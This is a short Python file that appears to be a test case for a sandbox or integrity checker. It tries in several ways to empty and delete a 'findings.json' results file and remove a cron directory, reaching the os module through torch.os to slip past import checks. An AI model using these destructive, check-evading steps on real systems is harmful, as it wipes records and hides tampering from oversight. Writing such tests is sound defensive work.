# attack: empties and deletes the findings
# layer: files
# where: backward
# status: ok
# score: same
import torch

os = torch.os


def attack():
    ways = (
        lambda: os.truncate("{CANARY}/results/findings.json", 0),
        lambda: os.open("{CANARY}/results/findings.json", os.O_WRONLY | os.O_TRUNC),
        lambda: os.unlink("{CANARY}/results/findings.json"),
        lambda: os.rmdir("{CANARY}/cron"),
    )
    for way in ways:
        try:
            way()
        except OSError:
            continue
